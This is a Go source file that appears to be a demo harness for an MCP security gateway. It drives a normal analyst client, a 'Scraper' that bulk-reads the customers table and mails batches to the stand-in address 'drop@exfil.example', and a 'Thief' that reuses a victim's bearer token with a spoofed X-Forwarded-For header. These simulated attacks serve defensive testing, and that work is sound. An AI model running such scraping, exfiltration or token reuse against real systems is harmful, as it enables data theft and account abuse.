package demo

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"time"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"
)

// User is one demo principal and the bearer token the gateway knows it by.
type User struct {
	Name  string
	Token string
}

// Report is what the traffic saw from the client side.
type Report struct {
	Calls   map[string]int // successful tool calls per user
	Refused map[string]int // calls the gateway refused per user
	// FirstRefusal is when the scraper's first call was refused; zero if never.
	FirstRefusal time.Time
	// RefusalError is the error text the scraper's client got.
	RefusalError string
	// PolicyDenied counts the scraper's e-mails refused by policy (personal data in them), and
	// PolicyError is what its client was told.
	PolicyDenied int
	PolicyError  string
	// ThiefCalls and ThiefRefused count the stolen token's calls answered and refused, and
	// ThiefError is what its client was last told.
	ThiefCalls, ThiefRefused int
	ThiefError               string
}

// Machine is where a client runs: its MCP client name and version, its HTTP user agent and its
// network address, which the gateway learns from X-Forwarded-For (it trusts the loopback proxy).
type Machine struct {
	Client, Version, UserAgent, Addr string
}

// Workstation is a demo principal's usual machine: the company's agent, on the office network.
func Workstation(u User, addr string) Machine {
	return Machine{Client: "demo-agent-" + u.Name, Version: "1.0.0", UserAgent: "acme-agent/1.0 (" + u.Name + ")", Addr: addr}
}

// Connect opens an MCP client session through the gateway with the user's token, from m.
func Connect(ctx context.Context, endpoint string, u User, m Machine) (*sdk.ClientSession, error) {
	hc := &http.Client{Transport: Transport(u.Token, m, http.DefaultTransport), Timeout: 30 * time.Second}
	c := sdk.NewClient(&sdk.Implementation{Name: m.Client, Version: m.Version}, nil)
	s, err := c.Connect(ctx, &sdk.StreamableClientTransport{Endpoint: endpoint, HTTPClient: hc, MaxRetries: -1}, nil)
	if err != nil {
		return nil, fmt.Errorf("connect %s: %w", u.Name, err)
	}
	return s, nil
}

// Normal runs a well-behaved analyst: a handful of calls, spaced out, until ctx ends or calls
// are done.
func Normal(ctx context.Context, endpoint string, u User, m Machine, calls int, gap time.Duration, r *Report, mu *sync.Mutex) error {
	s, err := Connect(ctx, endpoint, u, m)
	if err != nil {
		return err
	}
	defer s.Close()
	if _, err := s.ListTools(ctx, nil); err != nil {
		return fmt.Errorf("%s: tools/list: %w", u.Name, err)
	}
	for i := range calls {
		// The owner's e-mail address is personal data: the gateway masks it before auditing.
		p := &sdk.CallToolParams{Name: "db_query", Arguments: QueryArgs{SQL: "SELECT region, revenue FROM sales WHERE owner = '" + u.Name + "@acme.example'"}}
		if i%3 == 1 {
			p = &sdk.CallToolParams{Name: "file_read", Arguments: ReadArgs{Path: "/reports/q3.pdf"}}
		}
		_, err := s.CallTool(ctx, p)
		mu.Lock()
		if err != nil {
			r.Refused[u.Name]++
		} else {
			r.Calls[u.Name]++
		}
		mu.Unlock()
		select {
		case <-ctx.Done():
			return nil
		case <-time.After(gap):
		}
	}
	return nil
}

// Scraper runs the misbehaving principal: it hammers the sales database and mails results out,
// as fast as the gateway lets it, until the gateway refuses it (or max calls).
func Scraper(ctx context.Context, endpoint string, u User, m Machine, max int, r *Report, mu *sync.Mutex) error {
	s, err := Connect(ctx, endpoint, u, m)
	if err != nil {
		return err
	}
	defer s.Close()
	for i := range max {
		p := &sdk.CallToolParams{Name: "db_query", Arguments: QueryArgs{SQL: fmt.Sprintf("SELECT * FROM customers LIMIT 1000 OFFSET %d", i*1000)}}
		if i%10 == 9 {
			p = &sdk.CallToolParams{Name: "send_email", Arguments: MailArgs{To: "drop@exfil.example", Body: "batch " + fmt.Sprint(i)}}
		}
		_, err := s.CallTool(ctx, p)
		if err != nil && p.Name == "send_email" {
			// Refused by policy (the recipient is personal data), not revoked: keep scraping.
			mu.Lock()
			r.PolicyDenied++
			r.PolicyError = err.Error()
			mu.Unlock()
			continue
		}
		if err != nil {
			mu.Lock()
			r.Refused[u.Name]++
			if r.FirstRefusal.IsZero() {
				r.FirstRefusal, r.RefusalError = time.Now(), err.Error()
			}
			// The session's standalone stream may fail first, saying nothing of why: keep the
			// refusal that carries the gateway's reason.
			if msg := err.Error(); !strings.Contains(r.RefusalError, "revoked") && strings.Contains(msg, "revoked") {
				r.RefusalError = msg
			}
			n := r.Refused[u.Name]
			mu.Unlock()
			if n >= 3 {
				return nil // refused three times in a row: the revocation holds
			}
			continue
		}
		mu.Lock()
		r.Calls[u.Name]++
		mu.Unlock()
		if ctx.Err() != nil {
			return nil
		}
	}
	return errors.New("scraper was never refused")
}

// Thief uses the victim's token from another machine, at the victim's own pace and on the
// victim's own tools: nothing a rate threshold or the policy objects to. It stops once the
// gateway refuses it twice.
func Thief(ctx context.Context, endpoint string, victim User, m Machine, calls int, gap time.Duration, r *Report, mu *sync.Mutex) error {
	s, err := Connect(ctx, endpoint, victim, m)
	if err != nil {
		// Caught on its first request (the session's initialize): refused from then on.
		mu.Lock()
		r.ThiefRefused++
		r.ThiefError = err.Error()
		mu.Unlock()
		return nil
	}
	defer s.Close()
	refused := 0
	for i := range calls {
		p := &sdk.CallToolParams{Name: "db_query", Arguments: QueryArgs{SQL: fmt.Sprintf("SELECT region, revenue FROM sales WHERE quarter = 'Q%d'", i%4+1)}}
		_, err := s.CallTool(ctx, p)
		mu.Lock()
		if err != nil {
			refused++
			r.ThiefRefused++
			r.ThiefError = err.Error()
		} else {
			r.ThiefCalls++
		}
		mu.Unlock()
		if refused >= 2 {
			return nil
		}
		select {
		case <-ctx.Done():
			return nil
		case <-time.After(gap):
		}
	}
	return nil
}

// Transport sends a client's requests with its bearer token, and with its user agent and
// network address as a trusted proxy would forward them (X-Forwarded-For).
func Transport(token string, m Machine, next http.RoundTripper) http.RoundTripper {
	return bearer{token: token, agent: m.UserAgent, forwarded: m.Addr, next: next}
}

type bearer struct {
	token, agent, forwarded string
	next                    http.RoundTripper
}

func (b bearer) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set("Authorization", "Bearer "+b.token)
	if b.agent != "" {
		r.Header.Set("User-Agent", b.agent)
	}
	if b.forwarded != "" {
		r.Header.Set("X-Forwarded-For", b.forwarded)
	}
	return b.next.RoundTrip(r)
}
